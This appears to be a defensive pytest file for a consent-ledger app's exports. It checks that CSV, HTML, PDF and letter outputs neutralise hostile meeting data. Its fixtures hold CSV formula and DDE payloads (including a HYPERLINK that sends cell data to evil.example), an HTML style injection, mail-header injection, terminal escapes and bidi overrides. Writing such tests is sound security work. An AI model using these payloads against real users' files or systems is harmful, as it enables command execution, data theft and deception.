"""Issue 16 items 6-8 as filed: what meeting hosts, web pages or a tampered ledger chose stays
inert in every export. CSV cells never start a formula (OWASP), HTML escapes every value read
back from the ledger, and a letter keeps each quoted value on one line."""

from __future__ import annotations

import csv
import sqlite3
import stat
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import orjson
import pytest

from guard.export import export_history, make_letter
from guard.export.csv_export import FORMULA_START
from guard.ledger import Ledger, Meeting, RecordDraft, ledger_path
from guard.paths import app_paths

from .conftest import utc

HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click for the agenda")',
    "organiser": "+cmd|' /C calc'!A0",
    "link": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "-2+3+cmd|' /C calc'!A0",
    "purpose": "=1+1 TAB",
    "evidence": "\r=1+1",
    "quote": "'already quoted",
    "semicolon": "harmless; =1+1",
}


@pytest.fixture
def hostile(ledger: Ledger):
    return ledger.append(RecordDraft(
        "zoom", "given", occurred_at=utc(2026, 6, 1, 9, 0), feature_id="meeting-summary",
        meeting=Meeting(HOSTILE["title"], HOSTILE["link"], HOSTILE["organiser"]),
        purposes=(HOSTILE["purpose"], HOSTILE["semicolon"]), note=HOSTILE["note"], requested_by="host"))


def cells(path: Path, encoding: str) -> list[list[str]]:
    with open(path, newline="", encoding=encoding) as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("excel", [False, True])
def test_no_csv_cell_starts_a_formula(ledger, hostile, catalog, tmp_path, excel):
    target = tmp_path / "history.csv"
    export_history(ledger, catalog, "csv", target, excel=excel)
    rows = cells(target, "utf-8-sig")
    header, row = rows[0], rows[1]
    for value in (cell for r in rows for cell in r):
        assert not value.startswith(FORMULA_START), value
    by_name = dict(zip(header, row, strict=True))
    assert by_name["meeting_title"] == "'" + HOSTILE["title"]
    assert by_name["meeting_organiser"] == "'" + HOSTILE["organiser"]
    assert by_name["meeting_id_or_link"] == "'" + HOSTILE["link"]
    assert by_name["note"] == "'" + HOSTILE["note"]
    assert by_name["purposes"] == "'" + HOSTILE["purpose"] + " | " + HOSTILE["semicolon"]
    # a ';' never splits a cell for a spreadsheet whose list separator is ';'
    assert b"\"'=1+1 TAB | harmless; =1+1\"" in target.read_bytes()


def test_a_value_that_starts_with_a_quote_reads_back_by_dropping_one(ledger, catalog, tmp_path):
    ledger.append(RecordDraft("zoom", "given", occurred_at=utc(2026, 6, 1), meeting=Meeting(HOSTILE["quote"])))
    export_history(ledger, catalog, "csv", tmp_path / "h.csv")
    title = dict(zip(*cells(tmp_path / "h.csv", "utf-8"), strict=True))["meeting_title"]
    assert title == "''already quoted" and title[1:] == HOSTILE["quote"]


def test_the_settings_windows_spreadsheet_csv_is_neutralised(ledger, hostile, tmp_path):
    from guard.export_format import ExportFormat
    from guard.services import ExportRequest, Services

    assert "spreadsheet" in ExportFormat.CSV.label  # what the settings window offers
    services = Services(app_paths())
    try:
        outcome = services.export(ExportRequest(ExportFormat.CSV, tmp_path / "window.csv"), lambda done, total: True)
    finally:
        services.close()
    assert outcome.records == 1
    for value in (cell for r in cells(tmp_path / "window.csv", "utf-8-sig") for cell in r):
        assert not value.startswith(FORMULA_START), value


def tamper(path: Path, seq: int, **changes: object) -> None:
    """Rewrite a record's signed body as someone editing the file would (hash left as it was)."""
    with sqlite3.connect(path) as db:
        db.execute("DROP TRIGGER IF EXISTS records_append_only_update")
        body = orjson.loads(db.execute("SELECT body FROM records WHERE seq = ?", (seq,)).fetchone()[0])
        body.update(changes)
        db.execute("UPDATE records SET body = ? WHERE seq = ?", (orjson.dumps(body).decode(), seq))


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def test_html_escapes_values_read_back_from_a_tampered_ledger(ledger, sample, catalog, tmp_path):
    hide = "</td></tr></tbody></table><style>.verify,tr{display:none!important}</style><table><tr><td>"
    tamper(ledger_path(app_paths()), sample.given.seq, decision="given" + hide, requested_by=hide,
           refers_to=hide, id=hide, occurred_at=hide)
    tamper(ledger_path(app_paths()), sample.withdrawal.seq, note=hide)
    export_history(ledger, catalog, "html", tmp_path / "h.html")
    page = (tmp_path / "h.html").read_text(encoding="utf-8")
    parsed = Tags()
    parsed.feed(page)
    assert parsed.tags.count("style") == 1 and parsed.tags.count("table") == 3  # summary (2) and timeline
    text = " ".join("".join(parsed.text).split())
    assert "Ledger check: NOT intact" in text
    assert '<div class="verify bad">' in page
    assert "changed my mind" not in text and "display:none" in text  # the injected text shows as text
    assert f"<code>{sample.withdrawal.id}</code></td></tr>" in page  # the withdrawal row is still there


def test_a_title_cannot_inject_lines_into_a_letter(ledger, catalog, tmp_path):
    title = "Weekly\nSubject: Termination of my contract\r\n\x1b[2JBcc: boss@example.com\u2028Kind regards\u202e"
    record = ledger.append(RecordDraft("zoom", "given", occurred_at=utc(2026, 6, 2), feature_id="meeting-summary",
                                       meeting=Meeting(title, "https://zoom.us/j/1\nX-Header: 1", "Ada\tLovelace"),
                                       purposes=("summary\nSubject: no",)))
    letter = make_letter("withdrawal", ledger, catalog, record_id=record.id, name="Ada\nSubject: forged")
    lines = letter.text.split("\n")
    assert [line for line in lines if line.startswith("Subject:")] == [f"Subject: {letter.subject}"]
    assert not any(line.startswith(("Bcc:", "X-Header:", "Kind regards")) for line in lines)
    assert all(ch == "\n" or ch >= " " for ch in letter.text) and "\x1b" not in letter.text
    assert "\u2028" not in letter.text and "\u202e" not in letter.text
    meeting_line = next(line for line in lines if line.strip().startswith("Meeting:"))
    assert "Weekly Subject: Termination of my contract [2JBcc: boss@example.com Kind regards" in meeting_line
    pdf = letter.to_pdf(tmp_path / "letter.pdf")
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert sum(line.strip().startswith("Subject:") for line in text.splitlines()) == 1


def test_letters_saved_from_the_window_are_private_and_atomic(tmp_path):
    from guard.services import Services

    target = tmp_path / "letters" / "withdrawal.txt"
    target.parent.mkdir()
    target.write_text("an older letter")
    target.chmod(0o644)
    services = Services(app_paths())
    try:
        services.save_text(target, "Dear Zoom,\nI withdraw my consent.\n")
    finally:
        services.close()
    assert target.read_text(encoding="utf-8") == "Dear Zoom,\nI withdraw my consent.\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(p.name for p in target.parent.iterdir()) == ["withdrawal.txt"]  # no temporary file left


def test_exports_are_written_private(ledger, sample, catalog, tmp_path):
    for fmt in ("json", "csv", "html", "pdf"):
        target = tmp_path / f"h.{fmt}"
        export_history(ledger, catalog, fmt, target)
        assert stat.S_IMODE(target.stat().st_mode) == 0o600, fmt
    export_history(ledger, catalog, "receipts", tmp_path / "receipts", jurisdiction="EU")
    assert stat.S_IMODE((tmp_path / "receipts").stat().st_mode) == 0o700
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in (tmp_path / "receipts").iterdir())



# Audit round four: the HTML page and the PDF wrote a meeting host's bidi overrides and terminal
# escapes as they were, so a browser showed "Weekly \u202eNEVIG ton\u202c" as "Weekly ton GIVEN".
BIDI_TITLE = "Weekly \u202edeclined ton\u202c \x1b[2J\x1b]8;;https://evil.example\x07agenda\u2066x\u2069"
BIDI_ORGANISER = "\u202eBob \u200fthe host\u2028Ana\x85Lee"


@pytest.fixture
def reordered(ledger: Ledger):
    return ledger.append(RecordDraft(
        "zoom", "refused", occurred_at=utc(2026, 6, 3, 9, 0), feature_id="meeting-summary",
        meeting=Meeting(BIDI_TITLE, "https://zoom.us/j/1", BIDI_ORGANISER), note="first\u202e line\nsecond line"))


def _unsafe_in(text: str) -> list[str]:
    from guard.text_controls import UNSAFE

    return sorted({f"U+{ord(ch):04X}" for ch in text if ord(ch) in UNSAFE and ch != "\n"})


def test_the_html_page_shows_no_bidi_override_or_terminal_escape(ledger, reordered, catalog, tmp_path):
    export_history(ledger, catalog, "html", tmp_path / "h.html")
    page = (tmp_path / "h.html").read_text(encoding="utf-8")
    assert _unsafe_in(page) == []
    text = " ".join("".join(_text_of(page)).split())
    assert "Weekly declined ton [2J ]8;;https://evil.example agenda x" in text
    assert "Bob the host Ana Lee" in text and "first line second line" in text


def test_the_pdf_draws_no_bidi_override_or_terminal_escape(ledger, reordered, catalog, tmp_path):
    export_history(ledger, catalog, "pdf", tmp_path / "h.pdf")
    text = subprocess.run(["pdftotext", str(tmp_path / "h.pdf"), "-"], capture_output=True, text=True,
                          check=True).stdout.replace("\f", "\n")  # pdftotext ends each page with a form feed
    assert _unsafe_in(text) == [] and "[U+001B]" not in text and "[U+202E]" not in text
    flat = " ".join(text.split())
    assert "Weekly declined ton" in flat and "Bob the host" in flat


def _text_of(page: str) -> list[str]:
    parsed = Tags()
    parsed.feed(page)
    return parsed.text


@pytest.mark.parametrize("excel", [False, True])
def test_csv_cells_hold_no_bidi_override_or_terminal_escape(ledger, reordered, catalog, tmp_path, excel):
    """A spreadsheet applies a cell's bidi overrides as a browser does, and 'cat' of the file runs
    its escapes. Line breaks and tabs stay: the CSV quotes them."""
    export_history(ledger, catalog, "csv", tmp_path / "h.csv", excel=excel)
    text = (tmp_path / "h.csv").read_text(encoding="utf-8-sig")
    assert [code for code in _unsafe_in(text) if code not in ("U+0009", "U+000D")] == []
    header, row = cells(tmp_path / "h.csv", "utf-8-sig")[:2]
    by_name = dict(zip(header, row, strict=True))
    assert by_name["meeting_title"] == "Weekly  declined ton   [2J ]8;;https://evil.example agenda x "
    assert by_name["note"] == "first  line\nsecond line"


@pytest.mark.parametrize("fmt", ["html", "pdf"])
def test_a_huge_title_from_a_tampered_ledger_is_cut_in_the_page(ledger, sample, catalog, tmp_path, fmt):
    """Audit round five: the ledger cuts outside text at 2,000 characters when it records, but a
    2 MB title edited into the file went whole into the HTML page (the app's windows, 'consent
    list' and letters cut it). The page shows its beginning and how long it was; the signed JSON
    keeps the record as signed."""
    title = "Standup " + "T" * 2_000_000
    note = "n" * 1_000_000
    tamper(ledger_path(app_paths()), sample.given.seq, meeting={"title": title, "id_or_link": None,
                                                                "organiser": None}, note=note)
    export_history(ledger, catalog, fmt, tmp_path / f"h.{fmt}")
    export_history(ledger, catalog, "json", tmp_path / "h.json")
    assert (tmp_path / f"h.{fmt}").stat().st_size < 200_000
    if fmt == "html":
        page = (tmp_path / "h.html").read_text(encoding="utf-8")
        assert "Standup TTT" in page
        assert "[cut: 2000008 characters in all]" in page and "[cut: 1000000 characters in all]" in page
        assert sample.withdrawal.id in page
    assert title in (tmp_path / "h.json").read_text(encoding="utf-8")  # the record as signed


@pytest.mark.parametrize("excel", [False, True])
def test_a_huge_title_from_a_tampered_ledger_is_cut_in_the_csv(ledger, sample, catalog, tmp_path, excel):
    """Audit round six: the HTML and PDF exports cut a tampered record's text to the ledger's
    limits, but the CSV wrote a 2 MB title (and a 1 MB note, a 2 MB id) whole: a spreadsheet
    opening it stalls or drops the row. The CSV cuts them the same way, with the same mark; the
    signed JSON keeps the record as signed."""
    title = "Standup " + "T" * 2_000_000
    tamper(ledger_path(app_paths()), sample.given.seq, meeting={"title": title, "id_or_link": None,
                                                                "organiser": None},
           note="n" * 1_000_000, purposes=["p" * 50_000] * 3, requested_by="r" * 100_000)
    target = tmp_path / "h.csv"
    export_history(ledger, catalog, "csv", target, excel=excel)
    export_history(ledger, catalog, "json", tmp_path / "h.json")
    assert target.stat().st_size < 200_000
    rows = cells(target, "utf-8-sig")
    by_name = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    cut = next(r for r in by_name if r["meeting_title"].startswith("Standup"))
    assert cut["meeting_title"].endswith("… [cut: 2000008 characters in all]") and len(cut["meeting_title"]) == 2_000
    assert cut["note"].endswith("[cut: 1000000 characters in all]") and len(cut["note"]) == 20_000
    assert cut["purposes"].count("[cut: 50000 characters in all]") == 3
    assert cut["requested_by"].endswith("[cut: 100000 characters in all]")
    assert any(r["id"] == sample.withdrawal.id for r in by_name)  # the other records are all there
    assert title in (tmp_path / "h.json").read_text(encoding="utf-8")  # the record as signed
